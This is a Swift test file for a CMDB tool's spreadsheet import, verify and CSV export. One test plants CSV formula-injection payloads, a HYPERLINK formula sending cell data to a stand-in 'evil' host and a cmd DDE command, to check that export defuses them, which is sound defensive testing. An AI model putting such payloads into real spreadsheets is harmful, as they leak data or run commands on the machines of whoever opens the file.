import Foundation
import Testing

/// `cmdb import FILE.csv --map`, `cmdb verify FILE.csv --map`, `cmdb export --format csv` through the binary, on the
/// fixtures in fixtures/spreadsheets (see fixtures/README.md for what is planted in them).
struct SpreadsheetTests {
    let harness: Harness

    init() throws { harness = try Harness() }

    static func sheet(_ name: String) -> String { Paths.fixture("spreadsheets/" + name) }

    /// The problems stderr lists for `file`, each as `file:line: …` (without its `error[CODE] ` prefix).
    static func problems(_ stderr: String, in file: String) -> [String] {
        stderr.split(separator: "\n").compactMap { line in
            guard line.hasPrefix("error["), let close = line.firstIndex(of: "]") else { return nil }
            let rest = line[line.index(after: close)...].dropFirst()
            return rest.hasPrefix(file + ":") ? String(rest) : nil
        }
    }

    /// A database with the sample's sites only (the targets of the workstations' LOCATED_IN).
    func makeSitesDatabase(_ db: String? = nil) throws {
        try harness.makeDatabase(db)
        let sites = try String(contentsOfFile: Paths.sample, encoding: .utf8).split(separator: "\n")
            .filter { $0.contains("\"class\":\"Site\"") }.joined(separator: "\n") + "\n"
        try harness.succeed("import", harness.sandbox.write("sites.jsonl", sites), db: db)
    }

    @Test("the workstation export imports (Windows-1252, ';', decimal commas, dates, quoted remarks); again changes nothing")
    func workstationsImport() throws {
        try makeSitesDatabase()
        let first = try harness.succeed("import", Self.sheet("werkplekken-hersteld.csv"), "--map",
            Self.sheet("werkplekken.yaml"), "--change", "CHG-INV-2026", "--actor", "inventaris")
        #expect(first.err.contains("detected delimiter ';', encoding windows-1252 (byte 0x80 on line 1 is not UTF-8), "
            + "decimal comma (the delimiter is ';')"), "\(first)")
        #expect(first.err.contains("299 CIs added, 0 changed, 0 unchanged; 299 relations added"), "\(first)")
        let ci = try harness.succeed("query", "MATCH (w {id: 'ws-pf4hlnqf1v'})-[:LOCATED_IN]->(s) RETURN w, s.id",
            "--format", "json").out
        for expected in ["\"class\":\"Workstation\"", "\"name\":\"cb-orc-001\"", "\"status\":\"live\"",
            "\"screen_inch\":12.2", "\"purchase_value\":389.5", "\"memory_gb\":8",
            "\"purchased\":\"2025-01-10T00:00:00Z\"", "\"description\":\"Scherm vervangen; \\\"nieuw\\\" paneel geplaatst\"",
            "\"site-orc\""]
        {
            #expect(ci.contains(expected), "\(expected) not in \(ci)")
        }
        let servers = try harness.succeed("query", "MATCH (s:PhysicalServer) RETURN s.id, s.status ORDER BY s.id",
            "--format", "csv").out
        #expect(servers.contains("ws-czj4120abc,live") && servers.contains("ws-czj4120abd,in_test"), "\(servers)")
        let euro = try harness.succeed("query", "MATCH (w) WHERE w.description CONTAINS '€' RETURN count(*)",
            "--format", "csv").out
        #expect(!euro.hasSuffix("\n0\n"), "the € of Windows-1252 byte 0x80 came through: \(euro)")
        let multiline = try harness.succeed("query",
            "MATCH (w) WHERE w.description STARTS WITH 'Batterij zwak' RETURN w.description LIMIT 1", "--format", "json").out
        #expect(multiline.contains("Batterij zwak\\r\\nVervanging aangevraagd"), "\(multiline)")
        let change = try harness.status()
        #expect(change.changes.first?.changeReference == "CHG-INV-2026", "\(change.text)")

        let before = try harness.export()
        let again = try harness.succeed("import", Self.sheet("werkplekken-hersteld.csv"), "--map",
            Self.sheet("werkplekken.yaml"))
        #expect(again.err.contains("nothing changed: 0 CIs added, 0 changed, 299 unchanged; 0 relations added, 0 changed, "
            + "299 unchanged"), "\(again)")
        #expect(try harness.export() == before)
    }

    @Test("the switch list (',', UTF-8 with BOM) updates exactly the three switches with new firmware")
    func switchesImport() throws {
        try harness.makeDatabase(withSample: true)
        let result = try harness.succeed("import", Self.sheet("switches.csv"), "--map", Self.sheet("switches.yaml"))
        #expect(result.err.contains("detected delimiter ',', encoding utf-8 (byte-order mark), decimal point"), "\(result)")
        #expect(result.err.contains("0 CIs added, 3 changed, 25 unchanged; 0 relations added, 0 changed, 28 unchanged"),
            "\(result)")
        let versions = try harness.succeed("query",
            "MATCH (s:Switch) WHERE s.id IN ['sw-dewaaier-edge-01', 'sw-orc-core'] RETURN s.id, s.version ORDER BY s.id",
            "--format", "csv").out
        #expect(versions == "s.id,s.version\nsw-dewaaier-edge-01,ArubaOS-Switch WC.16.11.0021\nsw-orc-core,ArubaOS-CX 10.14\n")
        let again = try harness.succeed("import", Self.sheet("switches.csv"), "--map", Self.sheet("switches.yaml"))
        #expect(again.err.contains("nothing changed"), "\(again)")
    }

    @Test("--dry-run lists every bad row with its line and column, then a summary; a real import writes nothing")
    func everyBadRow() throws {
        try makeSitesDatabase()
        let before = try harness.export()
        let dry = try harness.cmdb("import", Self.sheet("werkplekken.csv"), "--map", Self.sheet("werkplekken.yaml"),
            "--dry-run")
        #expect(dry.exitCode == 2, "\(dry)")
        let file = Self.sheet("werkplekken.csv")
        let expected = [
            "\(file):19: column 'Geheugen (GB)': '8 GB' is not a whole number",
            "\(file):45: column 'Aanschafwaarde (€)': '1.299.00' is not a number (decimal comma: 12,5)",
            "\(file):45: column 'Aanschafdatum': '31-02-2025' is not a date in the format dd-MM-yyyy",
            "\(file):94: column 'Status': 'Kapot' is not one of 'In gebruik', 'Reserve', 'In reparatie', 'Afgevoerd'",
            "\(file):129: column 'Serienummer': is empty; the id needs it",
            "\(file):173: column 'Type': 'Tablet' is not one of 'Laptop', 'Desktop', 'Chromebook', 'Digibord', 'Server'",
            "\(file):223: column 'Vestiging': relation LOCATED_IN refers to unknown CI 'site-zwembad' (not in the CMDB "
                + "nor in this import)",
            "\(file):272: column 'Serienummer': CI 'ws-pw3d648swb' is given more than once in this import, with "
                + "different contents",
        ]
        #expect(Self.problems(dry.err, in: file) == expected, "\(dry)")
        #expect(dry.err.contains("error[SchemaError.ConflictingLines] \(expected[7])"), "the problem's own code: \(dry)")
        #expect(dry.err.hasSuffix("error[InputError.InvalidLine]: 8 problems on 7 lines; nothing was written\n"), "\(dry)")

        let limited = try harness.cmdb("import", file, "--map", Self.sheet("werkplekken.yaml"), "--dry-run",
            "--max-errors", "3")
        #expect(limited.exitCode == 2)
        #expect(limited.err.contains("error[InputError.InvalidLine]: 3 problems on 2 lines; stopped at --max-errors 3, there may be more"),
            "\(limited)")

        let real = try harness.cmdb("import", file, "--map", Self.sheet("werkplekken.yaml"))
        #expect(real.exitCode == 2)
        #expect(real.err.contains("error[InputError.InvalidLine] \(expected[0])"), "\(real)")
        #expect(real.err.contains("nothing was imported"))
        #expect(try harness.export() == before, "a failed import wrote something")
    }

    @Test("--dry-run on JSON Lines also lists every bad line")
    func jsonLinesDryRun() throws {
        try harness.makeDatabase()
        let bad = harness.sandbox.path("bad.jsonl")
        try harness.sandbox.write("bad.jsonl", """
            {"kind":"ci","id":"a","class":"Server"}
            {"kind":"ci","id":"b","class":"Servr"}
            not json
            {"kind":"rel","type":"RUNS_ON","from":"a","to":"zz"}
            {"kind":"ci","id":"c","class":"Server","attrs":{"cpu":"x"}}

            """)
        let dry = try harness.cmdb("import", bad, "--dry-run")
        #expect(dry.exitCode == 2)
        #expect(Self.problems(dry.err, in: bad) == [
            "\(bad):2: unknown class 'Servr' (did you mean 'Server'?)", "\(bad):3:1: invalid literal 'not'",
            "\(bad):4: relation RUNS_ON refers to unknown CI 'zz' (not in the CMDB nor in this import)",
            "\(bad):5: attribute 'cpu' of class 'Server' must be an int, not string",
        ], "\(dry)")
        #expect(dry.err.contains("4 problems on 4 lines; nothing was written"))
        let real = try harness.cmdb("import", bad)
        #expect(real.exitCode == 2 && real.err.contains("\(bad):2: unknown class"), "\(real)")
        #expect(try harness.status().ciCount == 0)
    }

    static let smallMap = """
        class: {column: Soort, values: {Laptop: Workstation, Server: PhysicalServer}}
        id: "ws-{Serie}"
        name: "{Naam}"
        status: {column: Status, values: {Actief: live, Weg: disposed}, default: live}
        attrs:
          serial: Serie
          memory_gb: {column: Geheugen, type: int}
          criticality: {column: Kritiek, type: int}
          screen: {column: Scherm, type: float}
          managed: {column: Beheerd, type: bool}
          purchased: {column: Gekocht, type: datetime, format: "dd-MM-yyyy"}
        relations:
          - {type: LOCATED_IN, to: "site-{Plaats}"}

        """
    static let smallHeader = "Soort;Serie;Naam;Status;Geheugen;Kritiek;Scherm;Beheerd;Gekocht;Plaats\n"
    static let goodRow = "Laptop;AB1;lt-1;Actief;8;3;14,0;ja;01-02-2025;orc\n"

    @Test("every kind of bad row: exit 2, the line and the column named, nothing written", arguments: [
        ("Laptop;AB2;lt-2;Actief;acht;3;14,0;ja;01-02-2025;orc", "column 'Geheugen': 'acht' is not a whole number"),
        ("Laptop;AB2;lt-2;Actief;8;3;14.0.1;ja;01-02-2025;orc", "column 'Scherm': '14.0.1' is not a number"),
        ("Laptop;AB2;lt-2;Actief;8;3;14,0;soms;01-02-2025;orc", "column 'Beheerd': 'soms' is not a yes/no value"),
        ("Laptop;AB2;lt-2;Actief;8;3;14,0;ja;2025-02-01;orc", "column 'Gekocht': '2025-02-01' is not a date in the format dd-MM-yyyy"),
        ("Laptop;AB2;lt-2;Stuk;8;3;14,0;ja;01-02-2025;orc", "column 'Status': 'Stuk' is not one of 'Actief', 'Weg'"),
        ("Tablet;AB2;lt-2;Actief;8;3;14,0;ja;01-02-2025;orc", "column 'Soort': 'Tablet' is not one of 'Laptop', 'Server'"),
        ("Laptop;;lt-2;Actief;8;3;14,0;ja;01-02-2025;orc", "column 'Serie': is empty; the id needs it"),
        ("Laptop;###;lt-2;Actief;8;3;14,0;ja;01-02-2025;orc", "column 'Serie': '###' has no letter or digit for the id"),
        ("Laptop;AB2;lt-2;Actief;8;9;14,0;ja;01-02-2025;orc", "column 'Kritiek': attribute 'criticality' of class 'Workstation' must be at most 5, not 9"),
        ("Laptop;AB2;lt-2;Actief;8;3;14,0;ja;01-02-2025;zwembad", "column 'Plaats': relation LOCATED_IN refers to unknown CI 'site-zwembad'"),
        ("Laptop;AB1;lt-1b;Actief;8;3;14,0;ja;01-02-2025;orc", "column 'Serie': CI 'ws-ab1' is given more than once in this import"),
        ("Laptop;AB2;lt-2;Actief;8;3;14,0;ja;01-02-2025;orc;extra", "the row has 11 fields, the header 10"),
        ("Laptop;AB2;\"lt-2;Actief;8;3;14,0;ja;01-02-2025;orc", "3: a quoted field starting on this line is never closed"),
    ])
    func badRowKinds(row: String, message: String) throws {
        try makeSitesDatabase()
        let before = try harness.export()
        let map = try harness.sandbox.write("map.yaml", Self.smallMap)
        let csv = try harness.sandbox.write("kind.csv", Self.smallHeader + Self.goodRow + row + "\n")
        let result = try harness.cmdb("import", csv, "--map", map)
        #expect(result.exitCode == 2, "\(result)")
        #expect(result.err.contains("\(csv):3: \(message)") || result.err.contains("\(csv):\(message)"), "\(result)")
        #expect(try harness.export() == before, "nothing may be written")
        let dry = try harness.cmdb("import", csv, "--map", map, "--dry-run")
        #expect(dry.exitCode == 2 && dry.err.contains(message), "\(dry)")
    }

    @Test("invalid UTF-8 with --encoding utf-8 names the column; detection would have chosen windows-1252")
    func forcedEncoding() throws {
        try makeSitesDatabase()
        let map = try harness.sandbox.write("map.yaml", Self.smallMap)
        var bytes = Data((Self.smallHeader + "Laptop;AB1;lt-").utf8)
        bytes.append(contentsOf: [0xE9])
        bytes.append(contentsOf: Array(";Actief;8;3;14,0;ja;01-02-2025;orc\n".utf8))
        let csv = try harness.sandbox.write("latin.csv", data: bytes)
        let forced = try harness.cmdb("import", csv, "--map", map, "--encoding", "utf-8")
        #expect(forced.exitCode == 2)
        #expect(forced.err.contains("\(csv):2: column 'Naam': not valid utf-8 text (try --encoding windows-1252)"),
            "\(forced)")
        let detected = try harness.succeed("import", csv, "--map", map)
        #expect(detected.err.contains("encoding windows-1252 (byte 0xE9 on line 2 is not UTF-8)"), "\(detected)")
        let name = try harness.succeed("query", "MATCH (w {id: 'ws-ab1'}) RETURN w.name", "--format", "csv").out
        #expect(name == "w.name\nlt-é\n")
    }

    @Test("delimiters and encodings are detected, and flags override detection", arguments: [
        (";", "utf-8", false, "detected delimiter ';', encoding utf-8, decimal comma"),
        (",", "utf-8", false, "detected delimiter ',', encoding utf-8, decimal point"),
        ("\t", "utf-8", true, "detected delimiter 'tab', encoding utf-8 (byte-order mark), decimal point"),
        (";", "windows-1252", false, "detected delimiter ';', encoding windows-1252 (byte 0xEB on line 2 is not UTF-8)"),
    ])
    func detection(delimiter: String, encoding: String, bom: Bool, note: String) throws {
        try makeSitesDatabase()
        let map = try harness.sandbox.write("map.yaml", """
            class: Workstation
            id: "ws-{Serie}"
            name: "{Naam}"
            attrs:
              screen: {column: Scherm, type: float}

            """)
        let comma = delimiter == ";"
        let text = ["Serie", "Naam", "Scherm"].joined(separator: delimiter) + "\r\n"
            + ["X1", "Zoë", comma ? "15,6" : "15.6"].joined(separator: delimiter) + "\r\n"
            + ["X2", "\"a\(delimiter)b\"", comma ? "1.024,5" : "1024.5"].joined(separator: delimiter) + "\r\n"
        var bytes = Data(bom ? [0xEF, 0xBB, 0xBF] : [])
        if encoding == "windows-1252" {
            bytes.append(contentsOf: text.unicodeScalars.map { UInt8(truncatingIfNeeded: $0.value) })
        } else {
            bytes.append(contentsOf: Array(text.utf8))
        }
        let csv = try harness.sandbox.write("d.csv", data: bytes)
        let result = try harness.succeed("import", csv, "--map", map)
        #expect(result.err.contains(note), "\(result)")
        let rows = try harness.succeed("query", "MATCH (w:Workstation) RETURN w.id, w.name, w.screen ORDER BY w.id",
            "--format", "json").out
        #expect(rows.contains("[\"ws-x1\",\"Zoë\",15.6]") && rows.contains("[\"ws-x2\",\"a\(delimiter == "\t" ? "\\t" : delimiter)b\",1024.5]"),
            "\(rows)")
        // Given explicitly, nothing is detected and the note is not printed.
        let flags = ["--delimiter", delimiter == "\t" ? "tab" : delimiter, "--encoding", encoding,
            comma ? "--decimal-comma" : "--no-decimal-comma"]
        let given = try harness.run(["--db", harness.db, "import", csv, "--map", map] + flags)
        #expect(given.exitCode == 0 && !given.err.contains("detected"), "\(given)")
    }

    @Test("export --format csv round-trips: without a mapping, and through the mapping in reverse")
    func exportRoundTrip() throws {
        // Without a mapping: the sample's workstations, re-imported, change nothing; into a new database, the same CSV.
        try harness.makeDatabase(withSample: true)
        let plain = try harness.succeed("export", "--format", "csv", "--class", "Workstation").stdout
        #expect(plain.starts(with: [0xEF, 0xBB, 0xBF]), "a byte-order mark, so Excel reads UTF-8")
        let header = String(decoding: plain.dropFirst(3).prefix { $0 != 0x0D }, as: UTF8.self)
        #expect(header.hasPrefix("id;class;name;status;hostname;serial;os;manufacturer;model;assigned_to;location"),
            "\(header)")
        let file = try harness.sandbox.write("ws.csv", data: plain)
        let again = try harness.succeed("import", file)
        #expect(again.err.contains("nothing changed: 0 CIs added, 0 changed, 167 unchanged"), "\(again)")
        let second = harness.sandbox.path("second")
        try harness.makeDatabase(second)
        try harness.succeed("import", file, db: second)
        #expect(try harness.succeed("export", "--format", "csv", "--class", "Workstation", db: second).stdout == plain)

        // With the mapping: the imported export, exported through the mapping, imports back unchanged.
        let third = harness.sandbox.path("third")
        try makeSitesDatabase(third)
        let map = Self.sheet("werkplekken.yaml")
        try harness.succeed("import", Self.sheet("werkplekken-hersteld.csv"), "--map", map, db: third)
        for cls in ["Workstation", "PhysicalServer"] {
            let mapped = try harness.succeed("export", "--format", "csv", "--class", cls, "--map", map, db: third)
            let mappedFile = try harness.sandbox.write("mapped-\(cls).csv", data: mapped.stdout)
            let text = String(decoding: mapped.stdout, as: UTF8.self)
            #expect(text.contains("Type;Serienummer;Computernaam;Status;"), "the mapping's columns: \(text.prefix(300))")
            let back = try harness.succeed("import", mappedFile, "--map", map, db: third)
            #expect(back.err.contains("nothing changed"), "\(back)")
            #expect(back.err.contains("0 relations added, 0 changed"), "\(back)")
        }
        let windows = try harness.succeed("export", "--format", "csv", "--class", "Workstation", "--map", map,
            "--delimiter", ",", "--encoding", "windows-1252", db: third)
        let windowsFile = try harness.sandbox.write("w.csv", data: windows.stdout)
        let back = try harness.succeed("import", windowsFile, "--map", map, db: third)
        #expect(back.err.contains("delimiter ','") && back.err.contains("windows-1252") && back.err.contains("nothing changed"),
            "\(back)")
    }

    @Test("export --format csv: text that would run as a formula goes out behind an apostrophe and comes back as it was")
    func exportGuardsFormulas() throws {
        try harness.makeDatabase(withSample: true)
        let hostile: [(String, String)] = [
            ("name", #"=HYPERLINK("http://evil/?"&A1,"klik")"#), ("hostname", "+cmd|' /C calc'!A0"),
            ("assigned_to", "@SUM(1)"), ("serial", "-2+3"), ("model", "'=already quoted"), ("os", "'plain"),
        ]
        let sets = hostile.map { "w.\($0.0) = '\($0.1.replacingOccurrences(of: "'", with: "\\'"))'" }
        try harness.succeed(
            "query", "MATCH (w:Workstation) WITH w ORDER BY w.id LIMIT 1 SET \(sets.joined(separator: ", ")), w.memory_gb = -8")
        let one = "MATCH (w:Workstation) RETURN w ORDER BY w.id LIMIT 1"
        let before = try harness.succeed("query", one, "--format", "json").out
        for (_, value) in hostile { #expect(before.contains(value.replacingOccurrences(of: "\"", with: "\\\"")), "\(before)") }
        let csv = try harness.succeed("export", "--format", "csv", "--class", "Workstation").stdout
        let text = String(decoding: csv, as: UTF8.self)
        let row = try #require(text.components(separatedBy: "\r\n").first { $0.contains("HYPERLINK") })
        for cell in [#""'=HYPERLINK(""http://evil/?""&A1,""klik"")""#, "'+cmd|' /C calc'!A0", "'@SUM(1)", "'-2+3",
            "''=already quoted", ";'plain;"]
        {
            #expect(row.contains(cell), "\(cell) in \(row)")
        }
        #expect(row.contains(";-8;") || row.hasSuffix(";-8"), "a negative number stays a number: \(row)")
        #expect(!text.components(separatedBy: "\r\n").contains { $0.hasPrefix("'") }, "ids and plain cells are left alone")
        // Back in: the same values, nothing changed.
        let file = try harness.sandbox.write("guarded.csv", data: csv)
        let again = try harness.succeed("import", file)
        #expect(again.err.contains("nothing changed"), "\(again)")
        #expect(try harness.succeed("query", one, "--format", "json").out == before)
    }

    @Test("export --format csv: bad requests exit 2", arguments: [
        (["export", "--format", "csv"], "give --class"),
        (["export", "--format", "csv", "--class", "Werkstation"], "unknown class 'Werkstation' (did you mean 'Workstation'?)"),
        (["export", "--class", "Workstation"], "go with --format csv"),
    ])
    func exportErrors(arguments: [String], message: String) throws {
        try harness.makeDatabase()
        let result = try harness.run(["--db", harness.db] + arguments)
        #expect(result.exitCode == 2 && result.err.contains(message), "\(result)")
    }

    @Test("verify from a spreadsheet reports matched, missing, unregistered and drift exactly as the JSON snapshot")
    func verifyFromSpreadsheet() throws {
        try harness.makeDatabase(withSample: true)
        let json = try harness.succeed("verify", Paths.fixture("snapshots/mdm-orc.jsonl"), "--format", "json").out
        let second = harness.sandbox.path("second")
        try harness.makeDatabase(second, withSample: true)
        let csv = try harness.succeed("verify", Self.sheet("mdm-orc.csv"), "--map", Self.sheet("mdm-orc.yaml"),
            "--source", "mdm-orc", "--scope", "owner=oude-rijn-college", "--scope", "manufacturer=HP", "--format", "json",
            db: second)
        #expect(csv.err.contains("mdm-orc 20 matched, 1 missing, 1 unregistered, 2 drift, 0 ambiguous"), "\(csv)")
        let a = try JSONSerialization.jsonObject(with: Data(json.utf8)) as? NSObject
        let b = try JSONSerialization.jsonObject(with: Data(csv.out.utf8)) as? NSObject
        #expect(a != nil && a == b, "JSON snapshot:\n\(json)\nspreadsheet:\n\(csv.out)")
        #expect(csv.out.contains("\"missing\":[\"lap-orc-doc-14\"]"), "\(csv.out)")
        // A directory stands for the spreadsheets in it.
        let folder = harness.sandbox.path("exports")
        try FileManager.default.createDirectory(atPath: folder, withIntermediateDirectories: true)
        try FileManager.default.copyItem(atPath: Self.sheet("mdm-orc.csv"), toPath: folder + "/mdm-orc.csv")
        let third = harness.sandbox.path("third")
        try harness.makeDatabase(third, withSample: true)
        let viaFolder = try harness.succeed("verify", folder, "--map", Self.sheet("mdm-orc.yaml"), "--source", "mdm-orc",
            "--scope", "owner=oude-rijn-college", "--scope", "manufacturer=HP", "--format", "json", db: third)
        #expect(try JSONSerialization.jsonObject(with: Data(viaFolder.out.utf8)) as? NSObject == a)
        // Without the scope, every live Workstation of the CMDB that the export does not list is missing.
        let unscoped = try harness.succeed("verify", Self.sheet("mdm-orc.csv"), "--map", Self.sheet("mdm-orc.yaml"),
            "--source", "mdm-orc", db: second)
        #expect(!unscoped.err.contains(" 1 missing"), "\(unscoped)")
    }

    @Test("verify from a spreadsheet: bad rows and options exit 2 and change nothing")
    func verifyErrors() throws {
        try harness.makeDatabase(withSample: true)
        let map = try harness.sandbox.write("v.yaml", "class: Workstation\nid: \"ws-{Serie}\"\nattrs:\n  serial: Serie\n  os: OS\n")
        let csv = try harness.sandbox.write("v.csv", "Serie;OS\n8CC5B0JDZF;Windows\n;Linux\n")
        let noSource = try harness.cmdb("verify", csv, "--map", map)
        #expect(noSource.exitCode == 2 && noSource.err.contains("needs --source"), "\(noSource)")
        let bad = try harness.cmdb("verify", csv, "--map", map, "--source", "inventaris")
        #expect(bad.exitCode == 2, "\(bad)")
        #expect(bad.err.contains("\(csv):3: the Workstation has none of its identifying attribute sets ([serial] or "
            + "[hostname])"), "\(bad)")
        #expect(bad.err.contains("nothing was changed"))
        let stamps = try harness.succeed("query", "MATCH (w:Workstation) WHERE w.last_verified_at IS NOT NULL RETURN count(*)",
            "--format", "csv").out
        #expect(stamps == "count(*)\n0\n", "a failed verify stamped CIs: \(stamps)")
    }

    @Test("mapping file errors name map:line:column; a column missing from the header names csv:1")
    func mappingErrors() throws {
        try makeSitesDatabase()
        let csv = try harness.sandbox.write("m.csv", "Serie;Naam\nA1;x\n")
        let typo = try harness.sandbox.write("typo.yaml", "class: Workstation\nid: \"ws-{Serie}\"\nattrs:\n  os: {colum: OS}\n")
        let r1 = try harness.cmdb("import", csv, "--map", typo)
        #expect(r1.exitCode == 2 && r1.err.contains("\(typo):4:8: unknown key 'colum' in attribute 'os' (did you mean 'column'?)"),
            "\(r1)")
        #expect(r1.err.hasPrefix("error[InputError.InvalidMapping] \(typo):4:8:"), "\(r1)")
        let missing = try harness.sandbox.write("missing.yaml", "class: Workstation\nid: \"ws-{Seriee}\"\n")
        let r2 = try harness.cmdb("import", csv, "--map", missing)
        #expect(r2.exitCode == 2 && r2.err.contains("\(csv):1: column 'Seriee': not in the header (did you mean 'Serie'?)"),
            "\(r2)")
        #expect(try harness.status().ciCount == 8)
    }

    @Test("a spreadsheet on standard input with --map")
    func standardInput() throws {
        try makeSitesDatabase()
        let map = try harness.sandbox.write("map.yaml", Self.smallMap)
        let result = try harness.succeed("import", "-", "--map", map, stdin: Data((Self.smallHeader + Self.goodRow).utf8))
        #expect(result.err.contains("<stdin>: detected delimiter ';'"), "\(result)")
        #expect(result.err.contains("1 CIs added"), "\(result)")
    }

    @Test("the spreadsheet fixtures are what their committed generator writes")
    func fixturesReproducible() throws {
        // python3 from PATH (make deps installs it); standard library only.
        let script = Paths.fixture("tools/make_spreadsheets.py")
        let result = try harness.tool("/usr/bin/env", ["python3", script, "--check"])
        #expect(result.exitCode == 0, "\(result)")
    }
}
